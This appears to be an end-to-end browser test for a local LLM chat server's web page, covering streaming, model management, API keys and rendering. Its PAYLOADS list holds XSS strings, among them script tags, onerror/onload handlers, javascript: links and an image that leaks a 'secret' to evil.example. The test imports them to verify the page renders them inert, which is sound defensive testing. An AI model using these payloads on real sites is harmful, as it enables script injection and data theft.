#!/usr/bin/env python3
"""End-to-end: the chat page served by a real `hearth serve`, driven in headless Chromium.

Three hearth servers: the main one (two fixture models in its store; a router whose "cloud" is a second
hearth serve; HF_ENDPOINT pointing at a fake Hugging Face hub started here), the "cloud", and one started with
--api-key. The page: CSP and other headers on /, first-view weight, tokens streaming in, Esc stopping an
answer, switching models, the conversation kept across a reload, an imported answer full of XSS payloads
rendering inert (the page's real rendering path: import -> IndexedDB -> markdown.js), local/cloud badges and
the spend panel, pulling a model with a live progress bar to 100%, details, delete, a refusal shown in the
conversation, the phone layout, the API key asked once and the management key when a route needs it. No console errors outside the phases that expect
a refusal. Screenshots (desktop 1280x800 and phone 390x844, light and dark) go to --screenshots DIR.

Usage: e2e_web.py HEARTH_BINARY [--screenshots DIR]
  HEARTH_WEB_DIR=DIR: serve the page from DIR (--web-dir) instead of the copy built into the binary.
Exit: 0 all passed, 1 a failure, 77 no chromium/chromedriver/selenium.
"""
import argparse
import gzip
import hashlib
import http.server
import json
import os
import shutil
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
sys.path.insert(0, os.path.join(HERE, ".."))
from browser import Browser, require_browser  # noqa: E402
from hearth_server import FAILURES, MODELS, Server, check, write_router_config  # noqa: E402

LOCAL = os.path.join(MODELS, "SmolLM2-135M-Instruct.Q4_1.gguf")
CLOUD = os.path.join(MODELS, "gemma-3-270m-q4_k_m.gguf")
# Pulled from the fake hub: a fixture not already in the store (the store shares blobs by digest, and a pull
# of a file it has would download nothing).
PULL_FILE = os.path.join(MODELS, "all-MiniLM-L6-v2.F16.gguf")
PULL_REF = "hf.co/test-org/tiny-GGUF:F16"
PULLED = "hf.co/test-org/tiny-gguf:f16"
PAGE_BUDGET = 400 * 1024  # first-view bytes on the wire (compressed)


# ---- a fake Hugging Face hub: the repo listing and one GGUF file, sent slowly enough to see progress ----------

def start_hub(path):
    size = os.path.getsize(path)
    sha = hashlib.sha256()
    with open(path, "rb") as f:
        for block in iter(lambda: f.read(1 << 20), b""):
            sha.update(block)
    listing = json.dumps([{"type": "file", "path": "README.md", "size": 10},
                          {"type": "file", "path": "tiny-F16.gguf", "size": size,
                           "lfs": {"oid": sha.hexdigest(), "size": size}}]).encode()
    served = []

    class Hub(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, *a):
            pass

        def do_HEAD(self):
            self.do_GET(body=False)

        def do_GET(self, body=True):
            p = self.path.split("?")[0]
            served.append(p)
            if p == "/api/models/test-org/tiny-GGUF/tree/main":
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(listing)))
                self.end_headers()
                if body:
                    self.wfile.write(listing)
                return
            if p != "/test-org/tiny-GGUF/resolve/main/tiny-F16.gguf":
                self.send_error(404)
                return
            start = 0
            rng = self.headers.get("Range", "")
            if rng.startswith("bytes=") and rng[6:].split("-")[0].isdigit():
                start = int(rng[6:].split("-")[0])
            self.send_response(206 if start else 200)
            self.send_header("Content-Type", "application/octet-stream")
            self.send_header("Content-Length", str(size - start))
            self.send_header("ETag", '"' + sha.hexdigest() + '"')
            if start:
                self.send_header("Content-Range", f"bytes {start}-{size - 1}/{size}")
            self.end_headers()
            if not body:
                return
            with open(path, "rb") as f:
                f.seek(start)
                for block in iter(lambda: f.read(2 << 20), b""):
                    self.wfile.write(block)
                    time.sleep(0.04)  # ~1 s in all for 46 MB: the page shows progress between 0 and 100

    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Hub)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    return httpd, served


# ---- helpers --------------------------------------------------------------------------------------------------

def hearth_import(hearth, home, path, name):
    r = subprocess.run([hearth, "import", path, name], env={**os.environ, "HEARTH_HOME": home},
                       capture_output=True, text=True, timeout=60)
    if r.returncode != 0:
        raise RuntimeError(f"hearth import {path}: {r.stderr}")


def start_server(hearth, home, *args, env=None):
    web_dir = os.environ.get("HEARTH_WEB_DIR")
    extra = ["--web-dir", web_dir] if web_dir else []
    return Server(hearth, home, "-t", "1", *extra, *args, env=env)


class Page:
    """The page in the browser, with the few actions the checks need."""

    def __init__(self, browser, shots):
        from selenium.webdriver.common.by import By
        self.b, self.d, self.By, self.shots = browser, browser.driver, By, shots

    def js(self, script, *args):
        return self.d.execute_script(script, *args)

    def find(self, css):
        return self.d.find_element(self.By.CSS_SELECTOR, css)

    def open(self, url):
        self.d.get(url)
        self.b.wait(lambda d: self.js("return document.body.dataset.ready === '1'"), 30, "the page to start")

    def wait(self, script, timeout=30, what=None, *args):
        return self.b.wait(lambda d: self.js(script, *args), timeout, what or script)

    def streaming(self):
        return self.js("return !document.getElementById('stop').hidden")

    def wait_idle(self, timeout=90):
        self.wait("return document.getElementById('stop').hidden && !document.querySelector('article[aria-busy]')",
                  timeout, "the answer to end")

    def pick_model(self, name):
        from selenium.webdriver.support.ui import Select
        self.wait("return [...document.querySelectorAll('#model option')].some(o => o.value === arguments[0])",
                  20, f"model {name} in the picker", name)
        Select(self.find("#model")).select_by_value(name)

    def settings(self, **values):
        self.find("#open-settings").click()
        self.wait("return document.getElementById('settings-dialog').open", 5)
        for k, v in values.items():
            field = self.find("#set-system" if k == "system" else f"#set-{k}")
            field.clear()
            field.send_keys(str(v))
        self.find("#settings-form button[type=submit]").click()
        self.wait("return !document.getElementById('settings-dialog').open", 5, "the settings to close")

    def send(self, text):
        """Types `text` and presses Enter; returns once the question and its answer's article are on the page
        (so a wait_idle() after it cannot pass before the request has begun)."""
        from selenium.webdriver.common.keys import Keys
        users = "document.querySelectorAll('#messages article.msg.user').length"
        before = self.js("return " + users)
        box = self.find("#input")
        box.click()
        box.send_keys(text, Keys.ENTER)
        self.wait(f"return {users} > arguments[0] && "
                  "[...document.querySelectorAll('#messages article.msg')].pop()?.classList.contains('assistant')",
                  20, "the question and its answer to appear", before)

    def last_answer(self):
        return self.js("""const a = [...document.querySelectorAll('#messages article.msg.assistant')].pop();
            if (!a) return null;
            const q = (s) => a.querySelector(s);
            return {text: q('.content')?.textContent || '', stats: q('.stats')?.textContent || '',
                    error: q('.msg-error')?.textContent || '', stopped: !!q('.msg-note'),
                    badge: q('.badge')?.textContent || '', badgeTitle: q('.badge')?.title || '',
                    detail: q('.route-detail')?.textContent || '', who: q('.who')?.textContent || ''};""")

    def shot(self, name, top=False):
        if self.shots:
            # No passing toast in the picture; `top`: the conversation from its start.
            self.js("document.getElementById('toast').hidden = true;"
                    "const m = document.getElementById('messages'); m.style.scrollBehavior = 'auto';"
                    "if (arguments[0]) m.scrollTop = 0;", top)
            self.d.save_screenshot(os.path.join(self.shots, name + ".png"))


def no_console_errors(b, phase, allow=()):
    errs = b.errors(allow)
    check(not errs, f"{phase}: no console errors" + (f" ({[e['message'][:200] for e in errs]})" if errs else ""))


def fetch(url, headers=None):
    req = urllib.request.Request(url, headers=headers or {})
    with urllib.request.urlopen(req, timeout=20) as r:
        return r.status, dict(r.headers), r.read()


# ---- the checks ----------------------------------------------------------------------------------------------

def check_headers(base):
    status, h, body = fetch(base + "/")
    csp = h.get("Content-Security-Policy", "")
    check(status == 200 and b'type="module"' in body, "GET / serves the page")
    check("script-src 'self'" in csp and "default-src 'none'" in csp and "unsafe" not in csp,
          f"GET /: strict Content-Security-Policy ({csp})")
    check(h.get("X-Content-Type-Options") == "nosniff", "GET /: X-Content-Type-Options: nosniff")
    check(bool(h.get("Cache-Control")), f"GET /: Cache-Control ({h.get('Cache-Control')})")


def lazy_weights(base):
    out = {}
    for path in ("/vendor/highlight.min.js", "/vendor/hljs-light.css", "/vendor/hljs-dark.css",
                 "/vendor/katex/katex.min.js", "/vendor/katex/katex.min.css"):
        _, h, body = fetch(base + path, {"Accept-Encoding": "gzip"})
        out[path] = len(body)
    fonts = 0
    for name in ("KaTeX_Main-Regular", "KaTeX_Math-Italic", "KaTeX_Size1-Regular", "KaTeX_AMS-Regular"):
        try:
            fonts += len(fetch(base + f"/vendor/katex/fonts/{name}.woff2")[2])
        except Exception as e:  # noqa: BLE001
            check(False, f"KaTeX font {name}.woff2 is served ({e})")
    out["/vendor/katex/fonts/ (4 common of 20 .woff2)"] = fonts
    return out


def first_view_weight(page):
    """Bytes on the wire (compressed bodies) of everything the first view loaded, from the browser's timing."""
    entries = page.js("""return [performance.getEntriesByType('navigation')[0],
        ...performance.getEntriesByType('resource')].map(e => [new URL(e.name).pathname, e.encodedBodySize,
        e.decodedBodySize]);""")
    return entries


def chat_phase(page, b, base):
    page.open(base + "/")
    entries = first_view_weight(page)
    total = sum(e[1] for e in entries)
    print("first view: " + ", ".join(f"{p} {enc} B ({dec} B plain)" for p, enc, dec in entries))
    check(total <= PAGE_BUDGET, f"first-view weight {total} B compressed <= {PAGE_BUDGET}")
    check(not any("highlight" in p or "katex" in p for p, _, _ in entries), "highlight.js and KaTeX are not loaded up front")
    no_console_errors(b, "first view")
    page.shot("desktop-empty-light")

    # Tokens stream in: the answer's text is seen growing (a MutationObserver records its lengths).
    page.pick_model("smollm2:latest")
    page.settings(max_tokens=160, temperature=0)  # long enough to be seen growing on a fast machine too
    page.js("""window.__lens = [];
        new MutationObserver(() => {
          const a = [...document.querySelectorAll('#messages article.msg.assistant')].pop();
          if (a) window.__lens.push(a.querySelector('.content').textContent.length);
        }).observe(document.getElementById('messages'), {subtree: true, childList: true, characterData: true});""")
    page.send("Write a long essay about the sea.")
    page.wait("return !document.getElementById('stop').hidden || document.querySelector('article.msg.assistant .stats')",
              10, "the Stop button while streaming")
    page.wait_idle()
    a = page.last_answer()
    lens = sorted(set(x for x in page.js("return window.__lens") if x > 0))
    check(len(lens) >= 3, f"tokens stream in: the answer grew through {len(lens)} lengths ({lens[:8]}...)")
    check(a and a["text"].strip() and not a["error"], f"smollm2 answered ({a and a['text'][:60]!r})")
    check("tok/s" in a["stats"] and "tokens" in a["stats"] and "first token" in a["stats"], f"stats shown: {a['stats']!r}")

    # Shift+Enter adds a line and sends nothing.
    from selenium.webdriver.common.keys import Keys
    box = page.find("#input")
    n = page.js("return document.querySelectorAll('#messages article').length")
    box.send_keys("line one", Keys.SHIFT, Keys.ENTER, Keys.NULL, "line two")
    check(page.js("return document.getElementById('input').value") == "line one\nline two"
          and page.js("return document.querySelectorAll('#messages article').length") == n,
          "Shift+Enter adds a line without sending")
    box.clear()

    # Esc stops a long answer mid-way; nothing more arrives after.
    page.settings(max_tokens=2000)
    page.send("Write a very long story about a dragon who learns to bake bread, in many chapters.")
    page.wait("const a = [...document.querySelectorAll('#messages article.msg.assistant')].pop();"
              "return a && a.querySelector('.content').textContent.length > 30", 60, "the long answer to start")
    from selenium.webdriver.common.action_chains import ActionChains
    ActionChains(page.d).send_keys(Keys.ESCAPE).perform()
    page.wait_idle(15)
    a = page.last_answer()
    before = len(a["text"])
    time.sleep(1.0)
    after = len(page.last_answer()["text"])
    check(a["stopped"] and before == after and before > 30, f"Esc stopped the answer at {before} characters ({after} later)")
    check(page.find("#stop").get_attribute("hidden") is not None and page.find("#send").is_displayed(),
          "after a stop the Send button is back")

    # Switch models: the next answer comes from gemma3 (the server has it loaded afterwards).
    page.settings(max_tokens=16)
    page.pick_model("gemma3:latest")
    page.send("Say hello.")
    page.wait_idle()
    a = page.last_answer()
    _, _, ps = fetch(base + "/api/ps")
    loaded = [m["name"] for m in json.loads(ps)["models"]]
    check(a["who"] == "gemma3:latest" and not a["error"] and any("gemma3" in m for m in loaded),
          f"switched to gemma3: answered by {a['who']}, loaded {loaded}")
    no_console_errors(b, "chat")
    page.shot("desktop-chat-light")

    # Reload: the conversation is still there (IndexedDB).
    title = page.js("return document.getElementById('conv-title').textContent")
    page.open(base + "/")
    n_msgs = page.js("return document.querySelectorAll('#messages article').length")
    in_list = page.js("return [...document.querySelectorAll('#conv-list .conv-open')].map(b => b.textContent)")
    check(n_msgs == 6 and title in in_list, f"after a reload: {n_msgs} messages, '{title}' in the list {in_list}")
    no_console_errors(b, "reload")

    # Edit the last question: the conversation continues from the new text (the old answer goes).
    page.js("[...document.querySelectorAll('#messages article.msg.user')].pop().querySelector('.msg-foot button:last-child').click()")
    edit = page.find("#messages textarea.edit-box")
    edit.clear()
    edit.send_keys("Say goodbye.", Keys.ENTER)
    page.wait("return !document.querySelector('#messages textarea.edit-box')", 10, "the edit to be sent")
    page.wait_idle()
    users = page.js("return [...document.querySelectorAll('#messages article.msg.user .content')].map(e => e.textContent)")
    n_msgs = page.js("return document.querySelectorAll('#messages article').length")
    check(users[-1] == "Say goodbye." and n_msgs == 6 and page.last_answer()["text"],
          f"edit: the last question is replaced and answered again ({users}, {n_msgs} messages)")
    first = page.last_answer()["text"]
    page.js("[...document.querySelectorAll('#messages article.msg.assistant')].pop().querySelector('.msg-foot button:last-child').click()")
    page.wait("return !document.getElementById('stop').hidden || document.querySelectorAll('#messages article').length == 6", 10)
    page.wait_idle()
    a = page.last_answer()
    check(page.js("return document.querySelectorAll('#messages article').length") == 6 and a["text"] and not a["error"],
          f"regenerate: the last answer is written again ({first[:30]!r} -> {a['text'][:30]!r})")
    no_console_errors(b, "edit and regenerate")


PAYLOADS = [
    '<script>window.__xss = "script"; alert(1)</script>',
    '<img src=x onerror="window.__xss=\'img\'; alert(2)">',
    '[click me](javascript:alert(3))',
    '<iframe src="javascript:alert(4)"></iframe><svg onload="alert(5)"></svg>',
    '<p style="position:fixed;inset:0;background:red">cover</p>',
    '![tracking pixel](https://evil.example/leak.png?q=secret)',
    '<a href="javascript:alert(6)">x</a> <details open ontoggle="alert(7)">d</details>',
]

SHOWCASE = """Here is a function that adds two numbers:

```python
def add(a: float, b: float) -> float:
    \"\"\"Return the sum of a and b.\"\"\"
    return a + b
```

The **Pythagorean theorem** relates the sides of a right triangle: $a^2 + b^2 = c^2$, and

$$\\int_0^1 x^2\\,dx = \\frac{1}{3}$$

| Quantity | Value |
|---|---|
| sides | 3, 4 |
| hypotenuse | 5 |
"""


def import_file(tmp):
    now = int(time.time() * 1000)
    convs = [
        {"id": "e2e-showcase", "title": "Add two numbers (showcase)", "created": now, "updated": now + 2,
         "model": "smollm2:latest", "system": "", "settings": {}, "route": "auto", "messages": [
             {"id": "s1", "role": "user", "content": "Write a Python function that adds two numbers, and remind me of Pythagoras."},
             {"id": "s2", "role": "assistant", "content": SHOWCASE, "model": "auto",
              "hearth": {"route": "local", "reason": "confident: short question", "score": 0.82, "upstream": None},
              "reasoning": "The user wants a function and a formula.",
              "stats": {"completionTokens": 96, "tokPerSec": 41.3, "ttftMs": 180}},
             {"id": "s3", "role": "user", "content": "Email the summary to jane@example.com"},
             {"id": "s4", "role": "assistant", "content": "Done: I wrote a short summary for the address you gave.",
              "model": "auto", "hearth": {"route": "cloud", "reason": "pinned to cloud", "score": None,
                                          "upstream": "test-cloud", "pseudonymized": ["email"]},
              "toolCalls": [{"id": "c1", "name": "send_email", "arguments": "{\"to\": \"jane@example.com\"}"}],
              "stats": {"completionTokens": 14, "tokPerSec": 55.0, "ttftMs": 420}}]},
        {"id": "e2e-payloads", "title": "Payloads", "created": now, "updated": now + 1, "model": "smollm2:latest",
         "system": "", "settings": {}, "route": "auto", "messages": [
             {"id": "p1", "role": "user", "content": "<img src=x onerror=alert(8)> say something nasty"},
             {"id": "p2", "role": "assistant", "content": "\n\n".join(PAYLOADS + ["```js\nconst ok = 1;\n```", "$x^2$"]),
              "model": "smollm2:latest"}]},
        {"id": "e2e-missing", "title": "Missing model", "created": now, "updated": now, "model": "missing:latest",
         "system": "", "settings": {}, "route": "auto", "messages": []},
    ]
    path = os.path.join(tmp, "import.json")
    with open(path, "w") as f:
        json.dump({"format": "hearth-chat", "version": 1, "conversations": convs}, f)
    return path


def open_conv(page, conv_id):
    page.js("document.querySelector(`#conv-list li[data-id='${arguments[0]}'] .conv-open`).click()", conv_id)
    page.wait("return document.querySelector('#conv-list li.current')?.dataset.id === arguments[0]", 10,
              f"conversation {conv_id} to open", conv_id)


def render_phase(page, b, base, tmp):
    from selenium.common.exceptions import NoAlertPresentException
    from selenium.webdriver.common.keys import Keys
    page.js("delete window.__xss")
    page.find("#import-file").send_keys(import_file(tmp))
    page.wait("return document.querySelectorAll('#conv-list li.conv').length >= 4", 10, "the import")
    open_conv(page, "e2e-payloads")
    page.wait("return document.querySelector('#messages .katex') && document.querySelector('#messages code.hljs')", 20,
              "KaTeX and highlight.js to load and render")
    time.sleep(0.5)  # time for any handler to fire, were one left
    try:
        page.d.switch_to.alert.text
        alerted = True
    except NoAlertPresentException:
        alerted = False
    dom = page.js("""const box = document.getElementById('messages');
        const bad = [...box.querySelectorAll('*')].filter(e => [...e.attributes].some(a => /^on/i.test(a.name) ||
            a.name === 'style' && !e.closest('.katex') || (a.name === 'href' && /^\\s*javascript:/i.test(a.value))));
        return {scripts: [...box.querySelectorAll('article :is(script,iframe,svg:not(.icon-svg),img,object,embed)')].map(e => e.outerHTML.slice(0, 120)),
                bad: bad.map(e => e.outerHTML.slice(0, 120)), xss: window.__xss ?? null,
                text: box.textContent};""")
    check(not alerted and dom["xss"] is None, "XSS payloads in an answer: no alert, nothing executed")
    check(not dom["scripts"] and not dom["bad"], f"XSS payloads: no script/frame/img, no handler, style or "
          f"javascript: link in the DOM ({dom['scripts']}, {dom['bad'][:3]})")
    check('<script>window.__xss = "script"; alert(1)</script>' in dom["text"], "raw HTML is shown as text")
    no_console_errors(b, "XSS payloads")

    open_conv(page, "e2e-showcase")
    page.wait("return document.querySelector('#messages .katex-display') && document.querySelector('#messages code.hljs')",
              20, "the showcase to render")
    s = page.js("""const q = (s) => document.querySelectorAll('#messages ' + s).length;
        return {table: q('table'), code: q('.code-block .copy-code'), strong: q('strong'), math: q('.katex'),
                reasoning: q('details.reasoning'), tool: q('.tool-call'), cloud: q('.badge.cloud'), local: q('.badge.local'),
                detail: [...document.querySelectorAll('#messages .route-detail')].map(e => e.textContent).join(' | ')};""")
    check(s["table"] == 1 and s["code"] == 1 and s["strong"] >= 1 and s["math"] >= 2,
          f"Markdown, code (with a copy button) and math render: {s}")
    check(s["reasoning"] == 1 and s["tool"] == 1 and s["cloud"] == 1 and s["local"] == 1 and "email" in s["detail"],
          f"thinking folded, tool call, local and cloud badges, pseudonymized types: {s['detail']!r}")
    # Copy buttons put the code on the clipboard (granted to the page for the test).
    page.d.execute_cdp_cmd("Browser.grantPermissions", {"permissions": ["clipboardReadWrite", "clipboardSanitizedWrite"],
                                                        "origin": base})
    page.find("#messages .copy-code").click()
    clip = page.d.execute_async_script("navigator.clipboard.readText().then(arguments[0], e => arguments[0]('ERR ' + e))")
    check("def add(a: float, b: float)" in clip, f"the code block's Copy button copies the code ({clip[:40]!r})")
    no_console_errors(b, "showcase")
    page.shot("desktop-showcase-light", top=True)
    page.b.color_scheme("dark")
    page.shot("desktop-showcase-dark", top=True)
    page.b.color_scheme("light")

    # Rename and delete from the sidebar (through the page's own dialogs).
    page.js("document.querySelector(`#conv-list li[data-id='e2e-missing'] .conv-actions button`).click()")
    page.wait("return document.getElementById('ask-dialog').open", 5, "the rename dialog")
    field = page.find("#ask-input")
    field.clear()
    field.send_keys("Renamed chat", Keys.ENTER)
    page.wait("return [...document.querySelectorAll('#conv-list .conv-open')].some(b => b.textContent === 'Renamed chat')",
              5, "the new name in the list")
    page.js("document.querySelector(`#conv-list li[data-id='e2e-payloads'] .conv-actions button:last-child`).click()")
    page.wait("return document.getElementById('ask-dialog').open", 5, "the delete confirmation")
    page.find("#ask-ok").click()
    page.wait("return !document.querySelector(`#conv-list li[data-id='e2e-payloads']`)", 5, "the deletion")
    check(True, "a conversation is renamed and another deleted from the sidebar")

    # Export: the file downloaded holds the conversations, in the format import reads.
    downloads = os.path.join(tmp, "downloads")
    os.makedirs(downloads)
    page.d.execute_cdp_cmd("Browser.setDownloadBehavior", {"behavior": "allow", "downloadPath": downloads})
    page.find("#export").click()
    deadline = time.time() + 10
    files = []
    while time.time() < deadline and not files:
        files = [f for f in os.listdir(downloads) if f.endswith(".json")]
        time.sleep(0.1)
    exported = json.load(open(os.path.join(downloads, files[0]))) if files else {}
    ids = sorted(c["id"] for c in exported.get("conversations", []))
    check(exported.get("format") == "hearth-chat" and "e2e-showcase" in ids and "e2e-missing" in ids
          and "e2e-payloads" not in ids, f"export downloads the conversations ({files}, {ids})")

    # A refusal is shown in the conversation, in words: the model is not in the store.
    open_conv(page, "e2e-missing")
    check("not installed" in page.js("return document.getElementById('model').selectedOptions[0].textContent"),
          "a conversation's missing model is marked as not installed in the picker")
    page.send("Hello?")
    page.wait("return !!document.querySelector('#messages article.msg.assistant:last-of-type .msg-error')", 30,
              "the refusal to show")
    page.wait_idle()
    a = page.last_answer() or {"error": ""}
    check("not in the store" in a["error"], f"the server's refusal is shown: {a['error'][:120]!r}")
    no_console_errors(b, "refusal", allow=("status of 404",))


def hybrid_phase(page, b, base):
    page.find("#new-chat").click()
    names = page.js("return [...document.querySelectorAll('#model option')].map(o => o.value)")
    check("auto" in names, f"the router alias 'auto' is in the model picker ({names})")
    if "auto" not in names:
        return
    page.pick_model("auto")
    page.settings(max_tokens=8, temperature=0)
    check(page.find("#route-switch").is_displayed(), "the local/auto/cloud switch shows for the router model")
    for route, want in (("cloud", "Cloud · test-cloud"), ("local", "Local")):
        page.find(f"#route-switch input[value={route}]").click()
        page.send(f"Say hello ({route}).")
        page.wait_idle()
        a = page.last_answer()
        check(want in a["badge"] and not a["error"], f"route {route}: badge {a['badge']!r} ({a['badgeTitle']!r})")
    page.find("#route-switch input[value=cloud]").click()
    page.send("My email is jane.doe@example.com, say hi.")
    page.wait_idle()
    a = page.last_answer()
    check("email" in a["detail"], f"a pseudonymized email shows on the badge ({a['detail']!r})")
    page.wait("return !document.getElementById('spend').hidden && /[1-9] cloud/.test("
              "document.getElementById('spend-counts').textContent)", 10, "the spend panel")
    check(True, "the spend panel shows the cloud answers: " + page.js("return document.getElementById('spend').innerText").replace("\n", " "))
    no_console_errors(b, "hybrid")
    page.shot("desktop-hybrid-light")


def models_phase(page, b, base, hub_served):
    page.find("#open-models").click()
    page.wait("return document.getElementById('models-dialog').open", 5)
    page.js("""window.__progress = [];
        new MutationObserver(() => window.__progress.push(Number(document.getElementById('pull-bar').value)))
          .observe(document.getElementById('pull-bar'), {attributes: true});""")
    page.find("#pull-ref").send_keys(PULL_REF)
    page.find("#pull-btn").click()
    page.wait("return /Done|failed/.test(document.getElementById('pull-status').textContent)", 120, "the pull to end")
    status = page.js("return document.getElementById('pull-status').textContent")
    seen = page.js("return window.__progress")
    partial = [p for p in seen if 0 < p < 100]
    check("Done" in status, f"pull: {status!r}")
    check(page.js("return document.getElementById('pull-bar').value") == 100 and partial,
          f"pull: the progress bar moved ({len(partial)} steps between 0 and 100) and reached 100%")
    check(any("resolve/main/tiny-F16.gguf" in p for p in hub_served), "pull: the file came from the (fake) hub")
    page.wait("return !!document.querySelector(`#model-list li[data-model='${arguments[0]}']`)", 10,
              "the pulled model in the list", PULLED)
    page.js("return document.querySelector(`#model-list li[data-model='smollm2:latest'] button`).click()")
    page.wait("return /Context length/.test(document.getElementById('model-details').textContent)", 10, "details")
    det = page.js("return document.getElementById('model-details').innerText")
    check("llama" in det and "8,192" in det and "Q4_1" in det, f"details: architecture, context, quant ({det[:120]!r})")
    page.shot("desktop-models-light")
    page.js("return document.querySelector(`#model-list li[data-model='${arguments[0]}'] button:last-child`).click()", PULLED)
    page.wait("return document.getElementById('ask-dialog').open", 5, "the delete confirmation")
    page.find("#ask-ok").click()
    page.wait("return !document.querySelector(`#model-list li[data-model='${arguments[0]}']`)", 15, "the delete", PULLED)
    _, _, tags = fetch(base + "/api/tags")
    check(PULLED not in [m["name"] for m in json.loads(tags)["models"]], "delete: the model is gone from the store")
    page.find("#models-close").click()
    no_console_errors(b, "models")


def phone_phase(page, b, base):
    page.b.size(390, 844, mobile=True)
    page.open(base + "/")
    left = page.js("return document.getElementById('sidebar').getBoundingClientRect().right")
    check(left <= 0, f"phone: the sidebar is folded away (right edge {left})")
    page.shot("phone-chat-light")
    page.find("#toggle-sidebar").click()
    page.wait("return document.getElementById('sidebar').getBoundingClientRect().left >= 0", 5, "the sidebar to open")
    page.shot("phone-sidebar-light")
    from selenium.webdriver.common.action_chains import ActionChains
    from selenium.webdriver.common.keys import Keys
    ActionChains(page.d).send_keys(Keys.ESCAPE).perform()
    page.wait("return document.getElementById('sidebar').getBoundingClientRect().right <= 0", 5, "Esc to fold it")
    check(True, "phone: the menu button opens the conversations, Esc folds them")
    page.b.color_scheme("dark")
    page.open(base + "/")
    bg = page.js("return getComputedStyle(document.body).backgroundColor")
    check(bg != "rgb(255, 255, 255)", f"dark theme from the system setting (background {bg})")
    page.shot("phone-chat-dark")
    page.b.color_scheme("light")
    page.b.size(1280, 800)
    no_console_errors(b, "phone")


def key_phase(page, b, base):
    page.d.get(base + "/")
    page.wait("return document.getElementById('ask-dialog').open", 20, "the key prompt")
    check("needs a key" in page.js("return document.getElementById('ask-title').textContent"), "the page asks for the API key")
    page.find("#ask-input").send_keys("page-key")
    page.find("#ask-ok").click()
    page.wait("return document.body.dataset.ready === '1' && document.querySelectorAll('#model option[value]').length > 0"
              " && [...document.querySelectorAll('#model option')].some(o => o.value === 'smollm2:latest')", 20,
              "the models once the key is given")
    check(page.js("return document.body.dataset.keyPrompts") == "1", "the key was asked once")
    page.pick_model("smollm2:latest")
    page.settings(max_tokens=8)
    page.send("Hello with a key.")
    page.wait_idle()
    a = page.last_answer()
    check(a["text"] and not a["error"], f"with the key the chat works ({a['text'][:40]!r})")
    check(page.js("return sessionStorage.getItem('hearth.apiKey')") == "page-key"
          and page.js("return localStorage.getItem('hearth.apiKey')") is None, "the key is in sessionStorage only")
    page.open(base + "/")
    time.sleep(0.5)
    check(not page.js("return document.getElementById('ask-dialog').open") and
          page.js("return document.body.dataset.keyPrompts") is None, "after a reload the key is not asked again")

    # Management routes take the management key: asked when the server says so, then the delete goes through.
    page.find("#open-models").click()
    page.wait("return !!document.querySelector(`#model-list li[data-model='smollm2:latest']`)", 10, "the model list")
    page.js("document.querySelector(`#model-list li[data-model='smollm2:latest'] button:last-child`).click()")
    page.wait("return document.getElementById('ask-dialog').open", 5, "the delete confirmation")
    page.find("#ask-ok").click()
    page.wait("return document.getElementById('ask-dialog').open && "
              "/Management key/.test(document.getElementById('ask-title').textContent)", 10, "the management key prompt")
    page.find("#ask-input").send_keys("admin-key")
    page.find("#ask-ok").click()
    page.wait("return !document.querySelector(`#model-list li[data-model='smollm2:latest']`)", 15, "the delete")
    check(page.js("return sessionStorage.getItem('hearth.managementKey')") == "admin-key",
          "the management key is asked when a management route needs it, and the delete works")
    page.find("#models-close").click()
    no_console_errors(b, "API key", allow=("status of 401",))


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("hearth")
    ap.add_argument("--screenshots", default=None)
    args = ap.parse_args()
    require_browser()
    for m in (LOCAL, CLOUD, PULL_FILE):
        if not os.path.exists(m):
            print(f"missing fixture model {m}: run scripts/fetch-models")
            return 1
    shots = args.screenshots or tempfile.mkdtemp(prefix="hearth-web-shots-")
    os.makedirs(shots, exist_ok=True)
    tmp = tempfile.mkdtemp(prefix="hearth-web-e2e-")
    homes = {k: os.path.join(tmp, k) for k in ("main", "cloud", "keyed")}
    for h in homes.values():
        os.makedirs(h)
    for home in (homes["main"], homes["keyed"]):
        hearth_import(args.hearth, home, LOCAL, "smollm2")
    hearth_import(args.hearth, homes["main"], CLOUD, "gemma3")
    hub, hub_served = start_hub(PULL_FILE)
    servers, browser = [], None
    t0 = time.time()
    try:
        cloud = start_server(args.hearth, homes["cloud"], "--allow-model-paths", "--api-key", "cloud-key")
        servers.append(cloud)
        write_router_config(homes["main"], LOCAL, cloud.base, CLOUD)
        env = {"E2E_CLOUD_KEY": "cloud-key", "HF_ENDPOINT": f"http://127.0.0.1:{hub.server_address[1]}"}
        main_srv = start_server(args.hearth, homes["main"], env=env)
        servers.append(main_srv)
        keyed = start_server(args.hearth, homes["keyed"], "--api-key", "page-key", "--management-key", "admin-key")
        servers.append(keyed)
        base = main_srv.base
        check_headers(base)
        browser = Browser(1280, 800)
        browser.size(1280, 800)
        page = Page(browser, shots)
        for name, phase in (("chat", lambda: chat_phase(page, browser, base)),
                            ("render", lambda: render_phase(page, browser, base, tmp)),
                            ("hybrid", lambda: hybrid_phase(page, browser, base)),
                            ("models", lambda: models_phase(page, browser, base, hub_served)),
                            ("phone", lambda: phone_phase(page, browser, base)),
                            ("key", lambda: key_phase(page, browser, keyed.base))):
            t = time.time()
            try:
                phase()
            except Exception as e:  # noqa: BLE001 - one phase failing must not hide the others
                check(False, f"phase {name}: {type(e).__name__}: {str(e).splitlines()[0] if str(e) else ''}")
                try:
                    page.shot(f"failed-{name}")
                    for entry in browser.console():
                        print(f"  console {entry['level']}: {entry['message'][:300]}")
                except Exception:  # noqa: BLE001
                    pass
            print(f"-- phase {name}: {time.time() - t:.1f} s", flush=True)
        weights = lazy_weights(base)
        print("lazy assets (compressed): " + ", ".join(f"{k} {v} B" for k, v in weights.items()))
    finally:
        if browser:
            browser.quit()
        for s in reversed(servers):
            rc = s.stop()
            check(rc == 0, f"server on port {s.port} exits 0 on SIGTERM (got {rc})")
            if FAILURES:
                print("".join(s.log[-15:]))
        hub.shutdown()
        shutil.rmtree(tmp, ignore_errors=True)
    print(f"screenshots in {shots}")
    print(f"{len(FAILURES)} failure(s) in {time.time() - t0:.0f} s")
    return 1 if FAILURES else 0


if __name__ == "__main__":
    sys.exit(main())
